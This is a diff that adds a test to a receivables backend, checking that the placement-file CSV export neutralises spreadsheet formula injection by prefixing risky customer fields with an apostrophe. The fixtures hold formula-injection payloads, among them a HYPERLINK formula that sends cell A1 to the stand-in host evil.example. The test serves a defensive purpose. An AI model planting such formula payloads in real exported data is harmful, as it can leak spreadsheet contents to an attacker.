@@ -61,6 +61,27 @@ describe('agency referral', () => {
     const audit = await must(b, s.admin, 'audit.list', { entity: 'account', entityId: String(acct.id) });
     expect(audit.map((a) => a.action)).toEqual(expect.arrayContaining(['referral.refer', 'referral.recall']));
   });
+
+  it('customer text that a spreadsheet would run as a formula is written as plain text', async () => {
+    const { b, s } = await receivablesBackend();
+    const acct = await newAccount(b, s.clerk, {
+      name: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+      billingAddress: { line1: '@SUM(1+1)', city: '-2+3+cmd', state: 'IL', postalCode: '62701' },
+      contacts: [{ name: '+Quinn', isPrimary: true, phones: [{ number: '(217) 555-0199' }] }],
+    });
+    await postInvoice(b, s.clerk, acct.id, 40000, { date: '2025-11-01', terms: 'Net 30' });
+    await must(b, s.supervisor, 'referrals.refer', { accountId: acct.id, agencyName: 'Acme Recovery' });
+    const file = await must(b, s.supervisor, 'referrals.placementFile', { accountIds: [acct.id] });
+    const row = Papa.parse<Record<string, string>>(file.csv, { header: true, skipEmptyLines: true }).data[0]!;
+    expect(row).toMatchObject({
+      account_name: `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`,
+      address_line1: "'@SUM(1+1)",
+      city: "'-2+3+cmd",
+      contact_name: "'+Quinn",
+      phones: "'+Quinn: (217) 555-0199",
+      balance: '400.00',
+    });
+  });
 });
 
 describe('write-off requests', () => {
